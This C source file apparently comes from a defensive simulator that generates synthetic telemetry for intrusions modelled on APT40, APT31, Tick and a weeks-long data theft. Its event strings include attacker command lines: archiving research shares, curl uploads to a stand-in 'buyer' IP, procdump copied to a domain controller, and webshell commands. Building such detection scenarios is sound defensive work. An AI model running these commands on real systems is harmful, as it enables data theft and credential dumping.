/* Those who want documents: what was published of APT40 and of APT31, a theft over weeks that
 * nobody signed, and one of the many groups that used the Exchange flaws. */
#include "intruder.h"
#include "noise.h"
#include "office.h"
#include "pages.h"
#include "scenario.h"

#define SECOND  USEC_PER_SEC
#define MINUTE  (60 * SECOND)
#define DAYS(n) ((n)*24 * ACT_HOUR)
#define W3WP    "c:\\windows\\system32\\inetsrv\\w3wp.exe"

/* ---- APT40 */

static void follow_lure(struct scene *s, usec t)
{
    office_name(s, t, "C:\\Program Files\\Internet Explorer\\iexplore.exe",
                "mail.thyssenkrupp-marinesystems.org", "203.0.113.21");
}

static void load_implant(struct scene *s, usec t)
{
    event_loaded(s, t, 3344, "C:\\Windows\\System32\\rundll32.exe", "C:\\Users\\Public\\ntkd.dll",
                 "MD5=3EB6F85AC046A96204096AB65BBD3E7E");
}

static void start_again(struct scene *s, usec t)
{
    event_registry(s, t, 3344, "C:\\Windows\\System32\\rundll32.exe",
                   "HKU\\" DOMAIN_SID
                   "-1123\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\ntkd",
                   "rundll32.exe C:\\Users\\Public\\ntkd.dll,Start");
}

static void stage_archive(struct scene *s, usec t)
{
    static const char rar[] = "C:\\Windows\\Debug\\rar.exe";
    office_runs(s, t, CMD, rar,
                "rar.exe a -hpW1nter C:\\Windows\\Debug\\u.rar \\\\FILES01\\research\\hull");
    event_file(s, t + 40 * SECOND, 5512, rar, "C:\\Windows\\Debug\\u.rar");
}

static void send_to_cloud(struct scene *s, usec t)
{
    sensor_request(s, t,
                   &(struct http){OFFICE_ADDRESS, "192.0.2.81", "POST", "api.dropbox.com",
                                  "/1/files_put/auto/u.rar",
                                  "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, "
                                  "like Gecko) Chrome/36.0.1985.143 Safari/537.36",
                                  200, 41000000});
}

static const struct act apt40_acts[] = {
    {0,        follow_lure,   "entry"     },
    {AT(300),  load_implant,  "execute"   },
    {AT(600),  start_again,   "persist"   },
    {AT(9000), stage_archive, "collect"   },
    {AT(9900), send_to_cloud, "exfiltrate"},
};

const struct scenario scenario_apt40 = {
    .name = "apt40",
    ON_OFFICE("FILES01"),
    .end = {.year = 2018, .month = 3, .day = 17},
    ACTS(apt40_acts),
    .before_end = 30 * ACT_HOUR,
    .state = "compromised",
    .rung = 6
};

/* ---- APT31 */

static void take_orders(struct scene *s, usec t)
{
    office_name(s, t, "C:\\Users\\Public\\update\\siHost64.exe", "api.dropboxapi.com",
                "192.0.2.81");
}

static void stay_with_dropbox(struct scene *s, usec t)
{
    event_registry(s, t, 4120, "C:\\Users\\Public\\update\\siHost64.exe",
                   "HKU\\" DOMAIN_SID
                   "-1124\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Dropbox Update Setup",
                   "C:\\Users\\Public\\update\\siHost64.exe");
}

static void read_directory(struct scene *s, usec t)
{
    office_runs(s, t, CMD, "C:\\Windows\\System32\\ldifde.exe",
                "ldifde -f -n eprod.ldf -r objectClass=user");
}

static void go_on(struct scene *s, usec t)
{
    office_runs(s, t, CMD, CMD,
                "cmd.exe /c copy procdump64.exe \\\\DC01\\c$\\aaaa\\procdump64.exe");
}

static const struct act apt31_acts[] = {
    {0,        take_orders,       "execute" },
    {AT(240),  stay_with_dropbox, "persist" },
    {AT(3600), read_directory,    "discover"},
    {AT(5400), go_on,             "move"    },
};

const struct scenario scenario_apt31 = {
    .name = "apt31",
    ON_OFFICE("FILES01"),
    .end = {.year = 2021, .month = 2, .day = 20},
    ACTS(apt31_acts),
    .before_end = 30 * ACT_HOUR,
    .state = "compromised",
    .rung = 6
};

/* ---- documents over weeks */

#define SEVEN_ZIP "C:\\Users\\Public\\Libraries\\7z.exe"
#define CURL      "C:\\Windows\\System32\\curl.exe"
#define BUYER     "203.0.113.200"

enum { PARTS = 5, PART_BYTES = 250000000 };

static void pack_week(struct scene *s, usec t)
{
    static const char *const projects[] = {"turbine", "battery", "vaccine", "hull"};
    const char *project = projects[(uint64_t)(t / (24 * 60 * MINUTE)) % ARRAY_LEN(projects)];
    office_runs(s, t, CMD, SEVEN_ZIP,
                arena_printf(s->arena,
                             "7z.exe a -pT0psecret -v250m C:\\PerfLogs\\%s.7z D:\\Projects\\%s",
                             project, project)
                    .p);
    for (int i = 1; i <= PARTS; i++) {
        const char *part = arena_printf(s->arena, "C:\\PerfLogs\\%s.7z.%03d", project, i).p;
        usec sent = t + (10 + i * 7) * MINUTE;
        event_file(s, t + i * MINUTE, 8120, SEVEN_ZIP, part);
        office_runs(s, sent, CMD, CURL,
                    arena_printf(s->arena, "curl.exe -T %s https://" BUYER "/up/", part).p);
        sensor_connection(s, sent,
                          &(struct connection){OFFICE_ADDRESS, BUYER, 443, PART_BYTES, 4100});
    }
    truth_name(s->truth, TRUTH_ADDRESS, BUYER);
}

static const struct act bulk_acts[] = {
    {0,        pack_week, "collect"},
    {DAYS(5),  pack_week, NULL     },
    {DAYS(9),  pack_week, NULL     },
    {DAYS(14), pack_week, NULL     },
    {DAYS(20), pack_week, NULL     },
};

const struct scenario scenario_bulk_theft = {
    .name = "bulk-theft",
    ON_OFFICE("FILES01"),
    .end = {.year = 2021, .month = 5, .day = 30},
    .days = 24,
    ACTS(bulk_acts),
    .before_end = DAYS(23) - 3 * ACT_HOUR,
    .state = "compromised",
    .rung = 7
};

const struct scenario scenario_bulk_healthy = {
    .name = "bulk-healthy",
    ON_OFFICE("FILES01"),
    .end = {.year = 2021, .month = 5, .day = 30},
    .days = 24,
    .state = "none"
};

/* ---- one of many groups: where ESET saw Tick, with the name that it asked for */

#define TICK_PAGE "C:\\inetpub\\wwwroot\\aspnet_client\\aspnet.aspx"

static const struct intruder visitor = {"203.0.113.31", BROWSER_45};

static void leave_page(struct scene *s, usec t)
{
    event_file(s, t, worker_default.pid, W3WP, TICK_PAGE);
    truth_name(s->truth, TRUTH_SHELL, "aspnet.aspx");
}

static void use_page(struct scene *s, usec t)
{
    intruder_posts(s, t, &visitor, TEXT_LOGS, "/aspnet_client/aspnet.aspx", 210);
    worker_runs(s, t + 60000, &worker_default, CHOPPER("whoami"), SYSTEM32 "whoami.exe", "whoami");
}

static void call_home(struct scene *s, usec t)
{
    event_dns(s, t, 7120, "C:\\Windows\\Temp\\svc.exe", "www.averyspace.net",
              "::ffff:203.0.113.32;");
}

static const struct act cluster_acts[] = {
    {0,       leave_page, "write"  },
    {AT(100), use_page,   "execute"},
    {AT(900), call_home,  NULL     },
};

const struct scenario scenario_clusters = {
    .name = "clusters",
    ON_EXCHANGE,
    .end = {.year = 2021, .month = 3, .day = 2},
    .files = pages_shipped,
    .hour = noise_hour,
    ACTS(cluster_acts),
    .before_end = 40 * ACT_HOUR,
    .state = "compromised",
    .rung = 5
};
